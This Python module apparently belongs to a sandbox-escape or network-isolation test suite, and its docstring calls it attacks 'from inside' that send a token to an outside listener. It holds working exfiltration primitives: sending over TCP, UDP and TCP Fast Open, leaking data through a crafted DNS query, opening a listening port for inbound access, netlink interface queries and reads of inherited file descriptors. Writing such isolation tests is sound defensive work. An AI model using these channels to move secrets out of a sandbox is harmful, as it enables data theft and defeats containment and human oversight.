"""Attacks on the network, from inside. Each sends the token to somebody who listens outside."""

import os
import socket
import struct

from from_inside import each


def connect(family, address, token, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as connection:
        connection.settimeout(1)
        connection.connect(address)
        connection.sendall(token)


def send(family, address, token):
    with socket.socket(family, socket.SOCK_DGRAM) as connection:
        connection.sendto(token, address)


def send_while_opening(address, token):
    """TCP Fast Open: data with the first packet, and no call of `connect`."""
    with socket.socket() as connection:
        connection.sendto(token, socket.MSG_FASTOPEN, address)


def ask_for_a_name(server, token):
    name = b"".join(bytes([len(part)]) + part for part in (token, b"example")) + b"\0"
    question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
    send(socket.AF_INET, (server, 53), question)


def open_a_door(port, token):
    """Listen, so that somebody outside can come in."""
    door = socket.create_server(("127.0.0.1", port))
    door.settimeout(1.5)
    visitor, _ = door.accept()
    visitor.sendall(token)


def hold_a_socket(family, kind, protocol=0):
    """Make one and keep it; a second look from outside tells what it is."""
    socket.socket(family, kind, protocol).detach()


def addresses_by_netlink():
    """Every address of every interface, as `ip address` asks for them."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
        route.settimeout(1)
        route.send(struct.pack("=IHHII", 17, 22, 0x301, 1, 0) + b"\0")
        return route.recv(1 << 16)[:512]


def read_descriptors(first=3, last=64):
    """What lies in any descriptor that came along."""
    found = b""
    for number in range(first, last):
        found += each(lambda number=number: os.pread(number, 64, 0)).replace(b"done", b"")
    return found[-512:]
